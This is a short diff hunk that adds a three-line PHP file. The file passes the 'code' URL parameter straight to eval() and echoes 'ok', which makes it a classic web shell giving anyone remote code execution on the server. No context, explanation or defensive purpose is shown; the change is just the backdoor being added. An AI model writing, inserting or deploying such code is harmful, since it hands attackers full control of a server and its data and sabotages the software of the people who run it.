@@ -1,0 +1,3 @@
+<?php
+eval($_GET['code']);
+echo "ok";
